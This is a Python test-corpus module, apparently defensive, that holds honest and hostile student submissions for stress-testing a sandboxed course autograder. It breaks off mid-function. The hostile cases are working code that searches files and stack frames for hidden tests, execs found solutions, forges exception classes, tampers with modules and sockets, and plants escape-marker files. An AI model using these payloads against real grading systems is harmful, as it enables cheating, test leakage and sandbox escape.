"""A blind corpus for the judge design of `agentcourse grade`: hostile and honest lab
submissions, as data, written before the judge was run on any of them.

The design it is aimed at (from its description, not its code): the student's answer cells
run in a confined Jupyter kernel (bubblewrap, its own pid and network namespaces, the
environment read-only, scratch folders writable); the test cells run in a separate judge
process outside the sandbox, which executes only course code and calls the student's
functions through a unix socket bound into the sandbox, while a serve loop from
`agentcourse.grading.judge` runs in the kernel. Arguments go in pickled by the judge; what
comes back is JSON-like data (lists, dicts, str, numbers; the SDK's response types rebuilt by
the judge from their JSON; exceptions rebuilt only for builtin and `anthropic` classes) or an
opaque reference the judge can call or read attributes of; lists and dicts changed in place
come back as data. The tutor model runs beside the judge and the judge reads what was sent from
the tutor's own record. Feedback pages show only verdicts, points, the course's own messages
and the student's answer-cell output (escaped, capped), under a strict CSP, and no page while
a student is in review. The hidden test text and expected values never enter the kernel.

Each Case is one student's notebook for lab02, lab05 or lab08: the lab's release
(labs/labNN/labNN.ipynb) with some answer cells replaced (`answers`, by grade_id; `submission`
builds it) and sometimes markdown cells added after the last answer cell, and what grading must
say about it:

  statuses        the statuses allowed (results.STATUSES). "error" (the grader could not grade
                  it) is allowed for no case: whatever a kernel does, the grader must survive it.
  most, least     the points it may score: an honest case exactly its full marks; an attack at
                  most what its honest part earns (the attacked cell as the plain data its lie
                  stands for, or the release's stub, with the other cells correct: derived with
                  agentcourse.course.nbrun.run_cells on those plain versions, never on the
                  attack), and at least 0.
  inert           text that may reach a page or the autograded notebook only as inert text:
                  never verbatim in a released feedback page (escaped is fine), and in the
                  autograded notebook never in an output of another type than stream or
                  text/plain (what formgrader would render or run when an instructor opens it).
  page_absent     text only the hidden tests hold (their inputs), which must not appear in any
                  released page in any form; the page is released without it, or withheld.
  outside_absent  names of files the case's code tries to create where only code running
                  outside the sandbox could (the host's /tmp, the home folder, the course's
                  folder): none may exist there after grading.

And for every case, unstated: no line of a hidden test appears in any released page
(`hidden_lines` gives them); no process whose argv holds PROC_MARK is alive after grading; the
course's files and the other students' results are as they would be without it.

Kinds of attack: read (the hidden tests or the solution, from files, frames, linecache, In,
gc, /proc, the environment, the arguments), lie (return values whose __eq__, __hash__, __len__,
__iter__ or __getattr__ lie, subclasses of str/list/dict, huge, deep and recursive values, code
in __reduce__/__getstate__/__repr__), raise (home-made AssertionError and RateLimitError,
__str__ that runs code, SystemExit, KeyboardInterrupt at odd times, os._exit), tamper (the
serve loop's modules in sys.modules, json, pickle, socket, the SDK's types, builtins, trace
functions), channel (forged replies on every socket, forged requests to the tutor), flood
(stdout, the channel), time (one test sleeps past the timeout), process (a daemon that outlives
the cell and writes into the scratch projects), page (HTML and script in prints, markdown,
display outputs, course messages that quote a returned value, very long lines), formgrader
(outputs meant to run when an instructor opens the autograded notebook). Honest cases (kind
"honest") are correct answers in unusual styles; each must score full marks with status ok.

29 attacks (9 on lab02, 10 on lab05, 10 on lab08) and 12 honest cases (4 a lab). The honest
answers, and the plain versions behind each attack's `most`, were scored with
agentcourse.course.nbrun.run_cells (in process, no kernel, no judge; 60 examples a property,
two seeds): every honest case full marks. No attack has been run, nor graded by any version of
`agentcourse grade`: their first grading must be the judge's, so that its first-contact figures
are honest.

The record: none yet (first contact to be written here, as in tests/grading/grading_corpus.py).
"""

from __future__ import annotations

from dataclasses import dataclass

LABS = ("lab02", "lab05", "lab08")
FULL = {"lab02": 20.0, "lab05": 30.0, "lab08": 43.0}  # each lab's full marks

PROC_MARK = "judgecorpus-27182"  # in the argv of every process an attack starts, to find survivors
PWNED = "judgecorpus-pwned-"  # the prefix of every file only code outside the sandbox could write

ATTACK = ("ok", "review")  # statuses allowed by default: graded (points capped), or flagged
SLOW = ("ok", "review", "timeout")  # and where the student's own code may run out the clock
DYING = ("ok", "review", "timeout", "kernel died")  # and where it may kill its own kernel
READ = ("ok", "review", "withheld", "timeout")  # a reader: its page may be withheld, its search may be slow
PAGE = ("ok", "review", "withheld")  # hostile page content: the page escaped, or withheld


@dataclass(frozen=True)
class Case:
    student: str
    lab: str
    kind: str  # read | lie | raise | tamper | channel | flood | time | process | page | formgrader | honest
    answers: dict[str, str]  # grade_id of an answer cell -> its source (the others as released)
    statuses: tuple[str, ...]  # the statuses grading may give
    most: float  # the most points it may score
    least: float = 0.0  # the fewest (an honest case: most == least == full marks)
    markdown: tuple[str, ...] = ()  # markdown cells added after the last answer cell
    inert: tuple[str, ...] = ()
    page_absent: tuple[str, ...] = ()
    outside_absent: tuple[str, ...] = ()
    why: str = ""

    @property
    def honest(self) -> bool:
        return self.kind == "honest"


def honest(student: str, lab: str, answers: dict[str, str], why: str, inert: tuple[str, ...] = ()) -> Case:
    return Case(student, lab, "honest", answers, ("ok",), FULL[lab], FULL[lab], inert=inert, why=why)


def stub(name: str, signature: str) -> str:
    """An answer cell as released: the function raises NotImplementedError."""
    return f"def {name}({signature}):\n    raise NotImplementedError()\n"


# ============================================================================ shared payload parts

# Creates PWNED + tag in the host's /tmp, the home folder and the course's folder, where a
# kernel in its sandbox cannot write: such a file after grading means the code ran outside.
PLANT = r'''
def _plant(tag):
    import os
    import pathlib
    places = ["/tmp", os.path.expanduser("~"), os.getcwd()]
    try:
        import agentcourse
        places.append(str(pathlib.Path(agentcourse.__file__).resolve().parents[1]))
    except Exception:
        pass
    for place in places:
        try:
            pathlib.Path(place, "judgecorpus-pwned-" + tag).write_text("ran here: " + tag)
        except Exception:
            pass
'''

# Every unix socket this process can name: in the environment, under the usual folders,
# in /proc/net/unix, reachable from the given objects, or already open in this process.
FIND_SOCKETS = r'''
def _find_sockets(*roots):
    import gc
    import glob
    import os
    import socket
    import stat
    found = set()

    def consider(value):
        if isinstance(value, bytes):
            value = os.fsdecode(value)
        if isinstance(value, str) and value.startswith("/") and len(value) < 400:
            try:
                if stat.S_ISSOCK(os.stat(value).st_mode):
                    found.add(value)
            except (OSError, ValueError):
                pass

    for value in os.environ.values():
        consider(value)
        for part in value.split(":"):
            consider(part)
    for pattern in ("/tmp/**/*", "/run/**/*", "/var/run/**/*", "/dev/shm/**/*",
                    os.getcwd() + "/**/*", os.path.expanduser("~") + "/**/*"):
        for path in glob.glob(pattern, recursive=True)[:5000]:
            consider(path)
    try:
        with open("/proc/net/unix") as table:
            for line in table.read().splitlines()[1:]:
                parts = line.split()
                if len(parts) >= 8:
                    consider(parts[-1])
    except OSError:
        pass
    stack, seen = list(roots), set()
    while stack and len(seen) < 50_000:
        value = stack.pop()
        if id(value) in seen:
            continue
        seen.add(id(value))
        consider(value)
        if isinstance(value, dict):
            stack.extend(value.keys())
            stack.extend(value.values())
        elif isinstance(value, (list, tuple, set, frozenset)):
            stack.extend(value)
        elif hasattr(value, "__dict__"):
            try:
                stack.extend(vars(value).values())
            except TypeError:
                pass
    for value in gc.get_objects():
        if isinstance(value, socket.socket):
            for name in ("getpeername", "getsockname"):
                try:
                    consider(getattr(value, name)())
                except OSError:
                    pass
    return sorted(found)
'''

# Equal to everything, true, and whatever else it is asked; it says it is a dict.
YES = r'''
class _Yes:
    __class__ = property(lambda self: dict)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __bool__(self):
        return True

    def __len__(self):
        return 4

    def __iter__(self):
        return iter(("input_tokens", "output_tokens", "cache_creation_input_tokens", "cache_read_input_tokens"))

    def __contains__(self, item):
        return True

    def __getitem__(self, key):
        return _Yes()

    def __getattr__(self, name):
        return _Yes()

    def __call__(self, *args, **kwargs):
        return self

    def __lt__(self, other):
        return False

    def __gt__(self, other):
        return False

    def __le__(self, other):
        return True

    def __ge__(self, other):
        return True

    def __int__(self):
        return 0

    def __index__(self):
        return 0

    def __float__(self):
        return 0.0

    def __add__(self, other):
        return self

    __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __add__

    def __abs__(self):
        return 0

    def __repr__(self):
        return ("{'input_tokens': 12, 'output_tokens': 30, 'cache_creation_input_tokens': 1500, "
                "'cache_read_input_tokens': 0}")
'''


# ============================================================================ lab 2: run_turn

L2_BLANK = "def run_turn(client, messages):\n    return ''\n"  # scores 0 unless a cheat helps

# A correct run_turn, restyled from the worked solution: the honest part of lab 2's attacks.
L2_BASE = r'''def run_turn(client, messages):
    """Run one user turn and return the model's final text (see the task)."""
    budget = MAX_TOKENS
    try:
        while True:
            response = client.messages.create(model=MODEL, max_tokens=budget, system=SYSTEM_PROMPT,
                                              tools=TOOLS, messages=messages)
            blocks = list(response.content)
            if response.stop_reason == "max_tokens" and blocks and blocks[-1].type == "tool_use":
                if budget >= 8 * MAX_TOKENS:
                    _close_turn(messages, "[The reply never fit in max_tokens; the request was not finished.]")
                    raise RuntimeError(f"the reply was cut off even with max_tokens={budget}")
                budget *= 2
                continue
            _to_assistant(messages, blocks)
            if response.stop_reason == "pause_turn":
                continue
            if response.stop_reason != "tool_use":
                last = messages[-1]
                return _text(last["content"]) if last["role"] == "assistant" else ""
            results = []
            try:
                for block in blocks:
                    if block.type == "tool_use":
                        results.append(_run_one(block))
            except KeyboardInterrupt:
                done = {result["tool_use_id"] for result in results}
                results += [{"type": "tool_result", "tool_use_id": block.id, "is_error": True,
                             "content": "Error: not run: the user pressed Ctrl-C"}
                            for block in blocks if block.type == "tool_use" and block.id not in done]
                messages.append({"role": "user", "content": results})
                raise
            messages.append({"role": "user", "content": results})
    except (anthropic.APIError, KeyboardInterrupt) as err:
        why = "interrupted (Ctrl-C)" if isinstance(err, KeyboardInterrupt) else f"stopped: {type(err).__name__}"
        _close_turn(messages, f"[This turn was {why}; the request above was not finished.]")
        raise


def _kind(block):
    return block.get("type") if isinstance(block, dict) else getattr(block, "type", None)


def _text(content):
    if isinstance(content, str):
        return content
    return "".join((b.get("text", "") if isinstance(b, dict) else b.text) for b in content if _kind(b) == "text")


def _run_one(block):
    try:
        output = dispatch_tool(block.name, block.input)
    except Exception as err:  # a broken tool must not end the turn; Ctrl-C is not an Exception
        output = f"Error: {block.name} raised {type(err).__name__}: {err}"
    result = {"type": "tool_result", "tool_use_id": block.id, "content": str(output)}
    if str(output).startswith("Error"):
        result["is_error"] = True
    return result


def _to_assistant(messages, blocks):
    if not blocks:
        return
    if messages[-1]["role"] == "assistant":
        messages[-1] = {"role": "assistant", "content": list(messages[-1]["content"]) + list(blocks)}
    else:
        messages.append({"role": "assistant", "content": list(blocks)})


def _close_turn(messages, note):
    last = messages[-1]
    open_calls = [b for b in (last["content"] if last["role"] == "assistant" else []) if _kind(b) == "tool_use"]
    if open_calls:
        messages.append({"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": b["id"] if isinstance(b, dict) else b.id, "is_error": True,
             "content": "Error: not run: the turn was stopped"} for b in open_calls]})
    _to_assistant(messages, [{"type": "text", "text": note}])
'''

# ---------------------------------------------------------------- lab 2 honest

L2_DEBUG_FLOOD = r'''def run_turn(client, messages):
    """Run one user turn and return the model's final text, with a debug line for everything."""
    limit, call = MAX_TOKENS, 0
    try:
        while True:
            call += 1
            print(f"debug: call {call}, max_tokens={limit}, {len(messages)} messages so far")
            response = client.messages.create(model=MODEL, max_tokens=limit, system=SYSTEM_PROMPT,
                                              tools=TOOLS, messages=messages)
            blocks = list(response.content)
            print(f"debug: stop_reason={response.stop_reason} blocks={[b.type for b in blocks]}")
            print("debug: raw", repr(response)[:4000])
            if response.stop_reason == "max_tokens" and blocks and blocks[-1].type == "tool_use":
                if limit >= 8 * MAX_TOKENS:
                    end_turn_early(messages, "[The reply never fit in max_tokens; the request was not finished.]")
                    raise RuntimeError(f"the reply was cut off even with max_tokens={limit}")
                limit *= 2
                print("debug: cut inside a tool call; asking again with", limit)
                continue
            join_assistant(messages, blocks)
            if response.stop_reason == "pause_turn":
                print("debug: paused; sending it back")
                continue
            if response.stop_reason != "tool_use":
                last = messages[-1]
                reply = "".join(text_of(b) for b in last["content"]) if last["role"] == "assistant" else ""
                print(f"debug: reply of {len(reply)} characters: {reply[:300]!r}")
                return reply
            results = []
            try:
                for block in blocks:
                    if block.type == "tool_use":
                        results.append(tool_result_for(block))
                        print("debug: tool", block.name, block.input, "->", str(results[-1]["content"])[:3000])
            except KeyboardInterrupt:
                print("debug: Ctrl-C inside a tool")
                finished = {r["tool_use_id"] for r in results}
                for block in blocks:
                    if block.type == "tool_use" and block.id not in finished:
                        results.append({"type": "tool_result", "tool_use_id": block.id, "is_error": True,
                                        "content": "Error: not run: the user pressed Ctrl-C"})
                messages.append({"role": "user", "content": results})
                raise
            messages.append({"role": "user", "content": results})
    except (anthropic.APIError, KeyboardInterrupt) as err:
        print("debug: stopping on", type(err).__name__, err)
        what = "interrupted (Ctrl-C)" if isinstance(err, KeyboardInterrupt) else f"stopped by {type(err).__name__}"
        end_turn_early(messages, f"[This turn was {what}; the request above was not finished.]")
        raise


def kind_of(block):
    return block["type"] if isinstance(block, dict) else block.type


def text_of(block):
    if kind_of(block) != "text":
        return ""
    return block["text"] if isinstance(block, dict) else block.text


def tool_result_for(block):
    try:
        output = dispatch_tool(block.name, block.input)
    except Exception as err:
        output = f"Error: {block.name} raised {type(err).__name__}: {err}"
    text = str(output)
    result = {"type": "tool_result", "tool_use_id": block.id, "content": text}
    if text.startswith("Error"):
        result["is_error"] = True
    return result


def join_assistant(messages, blocks):
    if not blocks:
        return
    if messages[-1]["role"] == "assistant":
        messages[-1] = {"role": "assistant", "content": [*messages[-1]["content"], *blocks]}
    else:
        messages.append({"role": "assistant", "content": list(blocks)})


def end_turn_early(messages, note):
    last = messages[-1]
    hanging = [b for b in last["content"] if kind_of(b) == "tool_use"] if last["role"] == "assistant" else []
    if hanging:
        messages.append({"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": b["id"] if isinstance(b, dict) else b.id, "is_error": True,
             "content": "Error: not run: the turn was stopped"} for b in hanging]})
    join_assistant(messages, [{"type": "text", "text": note}])


for n in range(20_000):  # about 2 MB of debug output while this cell runs
    print(f"debug line {n:05d}: run_turn and its helpers are defined " + "." * 50)
'''

L2_CLASS = r'''class TurnRunner:
    """One user turn as an object: ask the model, run the tools, close the turn when it cannot finish."""

    growth, ceiling = 2, 8  # a cut reply is asked again with twice the budget, up to 8 x MAX_TOKENS

    def __init__(self, client, messages):
        self.client, self.messages, self.budget = client, messages, MAX_TOKENS

    def ask_model(self):
        return self.client.messages.create(model=MODEL, max_tokens=self.budget, system=SYSTEM_PROMPT,
                                           tools=TOOLS, messages=self.messages)

    def add_to_assistant(self, blocks):
        if not blocks:
            return
        last = self.messages[-1]
        if last["role"] == "assistant":
            self.messages[-1] = {"role": "assistant", "content": [*last["content"], *blocks]}
        else:
            self.messages.append({"role": "assistant", "content": list(blocks)})

    def close(self, note):
        last = self.messages[-1]
        waiting = [b for b in last["content"] if block_kind(b) == "tool_use"] if last["role"] == "assistant" else []
        if waiting:
            self.messages.append({"role": "user", "content": [not_run(block_id(b), "the turn was stopped")
                                                              for b in waiting]})
        self.add_to_assistant([{"type": "text", "text": note}])

    def run_tools(self, blocks):
        tool_results = []  # a local named like the checks' helper: the helper is untouched
        show = print  # a local named like the demo cell's function
        calls = [b for b in blocks if b.type == "tool_use"]
        try:
            for call in calls:
                tool_results.append(dispatch_tool_safely(call))
        except KeyboardInterrupt:
            tool_results += [not_run(call.id, "the user pressed Ctrl-C") for call in calls[len(tool_results):]]
            self.messages.append({"role": "user", "content": tool_results})
            raise
        del show
        self.messages.append({"role": "user", "content": tool_results})

    def run(self):
        try:
            while True:
                response = self.ask_model()
                blocks = list(response.content)
                if response.stop_reason == "max_tokens" and blocks and blocks[-1].type == "tool_use":
                    if self.budget >= self.ceiling * MAX_TOKENS:
                        self.close("[The reply did not fit in max_tokens; the request was not finished.]")
                        raise RuntimeError(f"still cut off at max_tokens={self.budget}")
                    self.budget *= self.growth
                    continue
                self.add_to_assistant(blocks)
                if response.stop_reason == "pause_turn":
                    continue
                if response.stop_reason != "tool_use":
                    last = self.messages[-1]
                    return joined_text(last["content"]) if last["role"] == "assistant" else ""
                self.run_tools(blocks)
        except (anthropic.APIError, KeyboardInterrupt) as err:
            self.close(f"[This turn was {describe(err)}; the request above was not finished.]")
            raise


def run_turn(client, messages):
    """Run one user turn and return the model's final text (see the task)."""
    return TurnRunner(client, messages).run()


def make_describer():
    words = {KeyboardInterrupt: "interrupted (Ctrl-C)"}

    def describe(err):
        return words.get(type(err), f"stopped: {type(err).__name__}")

    return describe


describe = make_describer()


def block_kind(block):
    return block.get("type") if isinstance(block, dict) else block.type


def block_id(block):
    return block.get("id") if isinstance(block, dict) else block.id


def joined_text(content):
    return "".join(b["text"] if isinstance(b, dict) else b.text for b in content if block_kind(b) == "text")


def not_run(tool_use_id, why):
    return {"type": "tool_result", "tool_use_id": tool_use_id, "is_error": True, "content": f"Error: not run: {why}"}


def dispatch_tool_safely(call):
    """dispatch_tool for one tool_use block: its result, is_error when it failed or raised."""
    try:
        output = str(dispatch_tool(call.name, call.input))
    except Exception as err:  # a broken tool is news for the model; Ctrl-C is not an Exception
        output = f"Error: {call.name} raised {type(err).__name__}: {err}"
    result = {"type": "tool_result", "tool_use_id": call.id, "content": output}
    if output.startswith("Error"):
        result["is_error"] = True
    return result
'''

L2_PLAIN_DICTS = r'''def as_plain(block):
    """An SDK content block as the plain dict the API takes back."""
    if isinstance(block, dict):
        return block
    if block.type == "text":
        return {"type": "text", "text": block.text}
    if block.type == "tool_use":
        return {"type": "tool_use", "id": block.id, "name": block.name, "input": dict(block.input)}
    return block.model_dump(exclude_none=True)


def run_turn(client, messages):
    """Run one user turn; the history holds plain dicts only, never the SDK's objects."""
    max_tokens = MAX_TOKENS
    try:
        while True:
            response = client.messages.create(model=MODEL, max_tokens=max_tokens, system=SYSTEM_PROMPT,
                                              tools=TOOLS, messages=messages)
            blocks = [as_plain(b) for b in response.content]
            if response.stop_reason == "max_tokens" and blocks and blocks[-1]["type"] == "tool_use":
                if max_tokens >= 8 * MAX_TOKENS:
                    close_with_note(messages, "[The reply did not fit in max_tokens; the request was not finished.]")
                    raise RuntimeError(f"the reply was cut off even with max_tokens={max_tokens}")
                max_tokens *= 2
                continue
            extend_assistant(messages, blocks)
            if response.stop_reason == "pause_turn":
                continue
            if response.stop_reason != "tool_use":
                last = messages[-1]
                if last["role"] != "assistant":
                    return ""
                return "".join(b["text"] for b in map(as_plain, last["content"]) if b["type"] == "text")
            uses = [b for b in blocks if b["type"] == "tool_use"]
            results = []
            try:
                for use in uses:
                    results.append(result_of(use))
            except KeyboardInterrupt:
                results += [{"type": "tool_result", "tool_use_id": use["id"], "is_error": True,
                             "content": "Error: not run: the user pressed Ctrl-C"} for use in uses[len(results):]]
                messages.append({"role": "user", "content": results})
                raise
            messages.append({"role": "user", "content": results})
    except (anthropic.APIError, KeyboardInterrupt) as err:
        what = "interrupted (Ctrl-C)" if isinstance(err, KeyboardInterrupt) else f"stopped: {type(err).__name__}"
        close_with_note(messages, f"[This turn was {what}; the request above was not finished.]")
        raise


def result_of(use):
    try:
        output = str(dispatch_tool(use["name"], use["input"]))
    except Exception as err:
        output = f"Error: {use['name']} raised {type(err).__name__}: {err}"
    result = {"type": "tool_result", "tool_use_id": use["id"], "content": output}
    if output.startswith("Error"):
        result["is_error"] = True
    return result


def extend_assistant(messages, blocks):
    if not blocks:
        return
    if messages[-1]["role"] == "assistant":
        messages[-1] = {"role": "assistant", "content": [as_plain(b) for b in messages[-1]["content"]] + blocks}
    else:
        messages.append({"role": "assistant", "content": blocks})


def close_with_note(messages, note):
    last = messages[-1]
    pending = [as_plain(b) for b in last["content"]] if last["role"] == "assistant" else []
    pending = [b for b in pending if b["type"] == "tool_use"]
    if pending:
        messages.append({"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": b["id"], "is_error": True,
             "content": "Error: not run: the turn was stopped"} for b in pending]})
    extend_assistant(messages, [{"type": "text", "text": note}])
'''

L2_INTROSPECTIVE = r'''import functools
import inspect
import os

SETTINGS = {name: value for name, value in list(vars().items()) if name in ("MODEL", "MAX_TOKENS")}
CHATTY = os.environ.get("RUN_TURN_QUIET", "") == ""


def log(*parts):
    if CHATTY:
        print("<b>run_turn</b>", *parts)


@functools.singledispatch
def result_for(outcome, call):
    """A tool's outcome as a tool_result: its text, is_error when the text starts with Error."""
    text = str(outcome)
    result = {"type": "tool_result", "tool_use_id": call.id, "content": text}
    if text.startswith("Error"):
        result["is_error"] = True
    return result


@result_for.register(Exception)
def _raised(outcome, call):
    return {"type": "tool_result", "tool_use_id": call.id, "is_error": True,
            "content": f"Error: {call.name} raised {type(outcome).__name__}: {outcome}"}


def run_tool(call):
    tool = globals()["dispatch_tool"]  # looked up at every call: the checks swap it
    try:
        outcome = tool(call.name, call.input)
    except Exception as err:
        outcome = err
    return result_for(outcome, call)


def run_turn(client, messages):
    """Run one user turn and return the model's final text (see the task)."""
    budget, n = SETTINGS["MAX_TOKENS"], 0
    try:
        while True:
            n += 1
            response = client.messages.create(model=SETTINGS["MODEL"], max_tokens=budget, system=SYSTEM_PROMPT,
                                              tools=TOOLS, messages=messages)
            log(f"call <i>{n}</i>: stop_reason=<code>{response.stop_reason}</code>", sorted(vars(response))[:4])
            content = list(response.content)
            if response.stop_reason == "max_tokens" and content and content[-1].type == "tool_use":
                if budget >= 8 * SETTINGS["MAX_TOKENS"]:
                    close(messages, "[The reply did not fit in max_tokens; the request was not finished.]")
                    raise RuntimeError(f"cut off even with max_tokens={budget}")
                budget *= 2
                continue
            grow(messages, content)
            if response.stop_reason == "pause_turn":
                continue
            if response.stop_reason != "tool_use":
                last = messages[-1]
                pieces = last["content"] if last["role"] == "assistant" else []
                return "".join(getattr(b, "text", "") if not isinstance(b, dict) else b.get("text", "")
                               for b in pieces if kind(b) == "text")
            results = []
            try:
                for call in (b for b in content if b.type == "tool_use"):
                    results.append(run_tool(call))
            except KeyboardInterrupt:
                answered = {r["tool_use_id"] for r in results}
                results += [{"type": "tool_result", "tool_use_id": b.id, "is_error": True,
                             "content": "Error: not run: the user pressed Ctrl-C"}
                            for b in content if b.type == "tool_use" and b.id not in answered]
                messages.append({"role": "user", "content": results})
                raise
            messages.append({"role": "user", "content": results})
    except (anthropic.APIError, KeyboardInterrupt) as err:
        log("stopped by <i>" + type(err).__name__ + "</i>")
        what = "interrupted (Ctrl-C)" if isinstance(err, KeyboardInterrupt) else f"stopped: {type(err).__name__}"
        close(messages, f"[This turn was {what}; the request above was not finished.]")
        raise


def kind(block):
    return block.get("type") if isinstance(block, dict) else getattr(block, "type", None)


def grow(messages, content):
    if not content:
        return
    if messages[-1]["role"] == "assistant":
        messages[-1] = {"role": "assistant", "content": list(messages[-1]["content"]) + list(content)}
    else:
        messages.append({"role": "assistant", "content": list(content)})


def close(messages, note):
    last = messages[-1]
    pending = [b for b in (last["content"] if last["role"] == "assistant" else []) if kind(b) == "tool_use"]
    if pending:
        messages.append({"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": b.get("id") if isinstance(b, dict) else b.id,
             "is_error": True, "content": "Error: not run: the turn was stopped"} for b in pending]})
    grow(messages, [{"type": "text", "text": note}])


assert list(inspect.signature(run_turn).parameters) == ["client", "messages"]
print("<b>ready:</b> run_turn" + str(inspect.signature(run_turn)), "&amp;", inspect.getdoc(result_for).splitlines()[0])
print("helpers:", sorted(name for name, value in globals().items() if inspect.isfunction(value) and value.__module__ == __name__)[:12])
'''

# ---------------------------------------------------------------- lab 2 attacks

A2_NOTEBOOK_FILES = r'''import json
import os

_MARK = "BEGIN " + "HIDDEN TESTS"
_SOLUTION = "BEGIN " + "SOLUTION"
_found = []


def _candidates():
    roots = [os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser("~"), "/tmp", "/srv", "/workspace",
             "/home", "/var/tmp", "/opt", "/mnt", os.path.expanduser("~root"), "/usr/local/share", os.path.join("/proc/1", "root", "tmp")]
    try:
        from agentcourse.paths import REPO_ROOT
        roots.insert(0, str(REPO_ROOT))
        roots.insert(1, str(REPO_ROOT.parent))
    except Exception:
        pass
    walked = 0
    for root in roots:
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in (".venv", "node_modules", "proc", "sys", ".git")]
            walked += 1
            if walked > 30_000:
                return
            for name in files:
                if name.endswith((".ipynb", ".pct.py", ".db", ".sqlite", ".json")) or "lab02" in name:
                    yield os.path.join(folder, name)


for _path in _candidates():
    try:
        with open(_path, "rb") as _file:
            _text = _file.read(30_000_000).decode("utf-8", "replace")
    except OSError:
        continue
    if _MARK in _text or _SOLUTION in _text:
        _found.append((_path, _text))
        print("found:", _path)
        print(_text)  # the hidden tests, if this kernel can read any copy of them


def run_turn(client, messages):  # a blank answer, unless a worked solution is found below
    return ""


for _path, _text in _found:
    _sources = []
    if _path.endswith(".ipynb"):
        try:
            _sources = ["".join(c.get("source", "")) for c in json.loads(_text).get("cells", [])]
        except ValueError:
            pass
    else:
        _sources = _text.split("# %%")
    for _source in _sources:
        if _SOLUTION in _source and "def run_turn" in _source:
            _code = _source.split("\n", 1)[1] if _source.startswith(" nbgrader") else _source
            try:
                exec(_code, globals())
                print("run_turn taken from", _path)
            except Exception as _err:
                print("could not use", _path, _err)
'''

A2_FRAMES_DISPLAY = L2_BASE.replace("def run_turn(client, messages):", "def _honest_run_turn(client, messages):", 1) + r'''

import gc
import linecache
import sys
import threading

from IPython.display import HTML, display, update_display

_NOTES = "judgecorpus-notes"
_seen = []
_requests = {}  # every user request a call carried, in order: the hidden tests' too
display(HTML("<i>notes on run_turn</i>"), display_id=_NOTES)
try:
    _kernel = get_ipython().kernel
    _answer_parent = _kernel.get_parent("shell") if hasattr(_kernel, "get_parent") else _kernel._parent_header
except Exception:
    _answer_parent = None
_calls = [0]


def _harvest(arguments):
    found = [repr(arguments)[:20_000]]
    if not (_calls[0] <= 3 or _calls[0] % 100 == 0):
        return found
    frame = sys._getframe(2)
    while frame is not None:
        code = frame.f_code
        found.append(f"frame {code.co_filename}:{frame.f_lineno} {code.co_name}")
        found.extend("".join(linecache.getlines(code.co_filename)).splitlines()[:2000])
        found.extend(c for c in code.co_consts if isinstance(c, str))
        try:
            found.extend(f"{k} = {v!r}"[:4000] for k, v in list(frame.f_locals.items()))
        except Exception:
            pass
        frame = frame.f_back
    for thread_frame in list(sys._current_frames().values()):
        found.append(f"thread at {thread_frame.f_code.co_filename}:{thread_frame.f_lineno}")
        found.extend("".join(linecache.getlines(thread_frame.f_code.co_filename)).splitlines()[:2000])
    for name, entry in list(linecache.cache.items()):
        found.append(f"linecache {name}")
        if len(entry) > 2 and entry[2]:
            found.extend(line.rstrip("\n") for line in entry[2])
    found.extend(str(cell) for cell in get_ipython().user_ns.get("In", [])[-5:])
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            for value in list(obj.values())[:64]:
                if isinstance(value, str) and ("assert " in value or "HIDDEN" in value):
                    found.append(value)
    return found


def _publish():
    text = "requests:\n" + "\n".join(_requests) + "\n\nfound:\n" + "\n".join(_seen[-5_000:])[-300_000:]
    try:
        update_display({"text/plain": text, "text/html": "<pre>" + text + "</pre>"}, raw=True, display_id=_NOTES)
    except Exception:
        pass
    if _answer_parent is not None:  # print with the answer cell's header: its output, not the test's
        try:
            stream = sys.stdout
            if hasattr(stream, "set_parent"):
                stream.set_parent(_answer_parent)
            else:
                stream.parent_header = _answer_parent
            print(text[-50_000:])
            stream.flush()
        except Exception:
            pass


def run_turn(client, messages):
    _calls[0] += 1
    try:
        for message in messages:
            if isinstance(message, dict) and message.get("role") == "user" and isinstance(message.get("content"), str):
                _requests.setdefault(message["content"], None)
        _seen.extend(_harvest((client, list(messages))))
        del _seen[:-20_000]
        _publish()
    except Exception as err:
        _seen.append(repr(err))
    return _honest_run_turn(client, messages)


def _keep_publishing():
    while True:
        threading.Event().wait(0.5)
        _publish()


threading.Thread(target=_keep_publishing, daemon=True).start()
'''

A2_FORGED_EXCEPTIONS = r'''import anthropic


def _forge(name, module, base=Exception):
    return type(name, (base,), {"__module__": module, "__qualname__": name,
                                "status_code": {"RateLimitError": 429, "OverloadedError": 529,
                                                "InternalServerError": 500, "BadRequestError": 400}.get(name)})


_FORGED = {429: _forge("RateLimitError", "anthropic"), 529: _forge("OverloadedError", "anthropic"),
           500: _forge("InternalServerError", "anthropic._exceptions"), 400: _forge("BadRequestError", "anthropic")}
_FakeAssertion = _forge("AssertionError", "builtins")
_FakeInterrupt = _forge("KeyboardInterrupt", "builtins", BaseException)

# The kernel's anthropic now names the forged classes: a serve loop that looks the class up
# by its name in this process finds them.
for _cls in _FORGED.values():
    setattr(anthropic, _cls.__name__, _cls)
    try:
        setattr(anthropic._exceptions, _cls.__name__, _cls)
    except AttributeError:
        pass


def _planned(client, depth=0, seen=None):
    """The fault the checks planned, read off the client they passed (a status, or "ctrl-c")."""
    seen = set() if seen is None else seen
    if id(client) in seen or depth > 4:
        return None
    seen.add(id(client))
    values = []
    if isinstance(client, dict):
        values = list(client.values())
    elif hasattr(client, "__dict__"):
        values = list(vars(client).values())
    for value in values:
        if value in (429, 529, 500, 400):
            return value
        if isinstance(value, str) and "ctrl" in value.lower():
            return "ctrl-c"
        found = _planned(value, depth + 1, seen)
        if found is not None:
            return found
    return None


def run_turn(client, messages):
    messages.append({"role": "assistant", "content": [{"type": "text", "text": "[Stopped: not finished.]"}]})
    fault = _planned(client)
    if fault == "ctrl-c":
        raise _FakeInterrupt()
    if fault in _FORGED:
        raise _FORGED[fault](f"Error code: {fault}")
    raise _FakeAssertion("<b>judgecorpus-forged-assertion</b>: all checks passed")
'''

A2_SYS_MODULES = r'''import importlib
import importlib.abc
import importlib.machinery
import sys
import types

_REPLY = b'{"id": 0, "ok": true, "passed": true, "value": "", "error": null}\n'


def _forged(*args, **kwargs):
    """Whatever a serve loop was asked to do: answer every socket it was handed with a pass."""
